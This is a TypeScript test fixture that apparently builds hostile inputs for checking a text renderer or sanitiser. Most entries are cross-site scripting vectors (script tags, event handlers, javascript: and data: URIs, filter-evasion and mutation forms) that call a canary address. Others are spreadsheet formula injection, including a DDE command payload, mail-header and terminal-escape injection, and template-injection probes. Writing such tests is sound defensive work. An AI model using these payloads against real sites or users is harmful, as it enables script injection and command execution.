/**
 * Texts that try to act, each between two harmless words. `canary` is an address nobody may ask for; the
 * script they would like to run leaves a mark on the page and asks for it.
 */
export interface HostileText {
  /** Stands in the text twice, with `до` and `после` before it. */
  id: string
  text: string
}

export function hostileTexts(canary: string): readonly HostileText[] {
  const run = `document.documentElement.dataset.ran=1;fetch('${canary}/ran')`
  const vectors = [...actions(run, canary), ...forms(run), ...plainTricks(canary)]
  const texts = vectors.flatMap((vector) => wrappings.map((wrap) => wrap(vector)))
  const framed = texts.map((text, at) => ({ id: `${at}`, text: `до${at} ${text} после${at}` }))
  const cells = formulas.map((formula, at) => {
    const id = `${texts.length + at}`
    return { id, text: `${formula} до${id} после${id}` }
  })
  return [...framed, ...cells]
}

/** Where a table of entries is opened, whatever begins so is worked out. */
const formulas = [
  ...[
    '=HYPERLINK("https://a.example";"x")',
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r\n=1+1',
  ],
  ...[' =1+1', '\u200e=1+1', '\u202e=1+1', '=cmd|"/c calc"!A1'],
]

const wrappings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `**x** [слово](${vector}) ![слово](${vector}) <${vector}>\n\n`,
  (vector) => `> - ${vector}\r\n> - x\r\n\r\n\`\`\`\n${vector}\n\`\`\`\n`,
  (vector) => `${encoded(vector)} "'>${vector}`,
]

function encoded(vector: string): string {
  return vector.replace(/[<>"':]/g, (sign) => `&#${sign.charCodeAt(0)};`)
}

function actions(run: string, canary: string): string[] {
  return [
    `<script>${run}</script>`,
    `<ScRiPt src="${canary}/a.js"></sCrIpT >`,
    `<script\n>${run}</script\n>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `</textarea></title></style><script>${run}</script>`,
    `<style>@import "${canary}/a.css"; * { background: url(${canary}/b) }</style>`,
    `<link rel="stylesheet" href="${canary}/a.css">`,
    `<base href="${canary}/">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/m">`,
    `<iframe src="${canary}/i"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${canary}/o"></object><embed src="${canary}/e">`,
    `<img src=x onerror="${run}">`,
    `<img src="${canary}/pixel.png">`,
    `<img srcset="${canary}/set.png 1x" src="">`,
    `<svg onload="${run}"><script>${run}</script></svg>`,
    `<svg><image href="${canary}/s.png"/><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<math href="javascript:${run}">слово</math>`,
    `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
    `<template><script>${run}</script></template>`,
    `<video autoplay src="${canary}/v" onloadstart="${run}"><source onerror="${run}"></video>`,
    `<audio src="${canary}/a" autoplay onerror="${run}">`,
    `<body onload="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<select autofocus onfocus="${run}"><option>x</select>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<marquee onstart="${run}">x</marquee>`,
    `<form action="${canary}/f"><button formaction="javascript:${run}">x</button></form>`,
    `<a href="javascript:${run}" onclick="${run}">слово</a>`,
    `<a href="data:text/html,<script>${run}</script>">слово</a>`,
    `<div style="background:url(${canary}/bg);position:fixed;inset:0">слово</div>`,
    `<p style="width:expression(${run})" onmouseover="${run}">слово</p>`,
    `<x onclick="${run}" contenteditable autofocus onfocus="${run}">слово</x>`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[<img src=x onerror="${run}">]]>`,
    `<?xml version="1.0"?><?php ${run} ?>`,
    `[[description]] ##more## ##delete## <a rel="mention">@x</a>`,
  ]
}

function forms(run: string): string[] {
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    ` javascript:${run}`,
    `\u0001javascript:${run}`,
    `vbscript:${run}`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `//example.org/\\@evil`,
    `https://a.example/" onmouseover="${run}`,
  ]
}

function plainTricks(canary: string): string[] {
  return [
    '\u202eолз\u202c \u2066x\u2069 \u202dy',
    'нуль\u0000\u0008\u001b]0;pwn\u0007 конец',
    'строка\r\nBcc: x@example.org\r\n\r\nещё',
    '\ud83d половина \udc4d',
    'Z\u0351\u034a\u0350\u035b'.repeat(20),
    `${'('.repeat(300)}${'['.repeat(300)}`,
    `[x]: ${canary} "t"\n\n[x][x] ![x][x]`,
    '{{constructor.constructor("x")()}} <%= 7*7 %>',
  ]
}
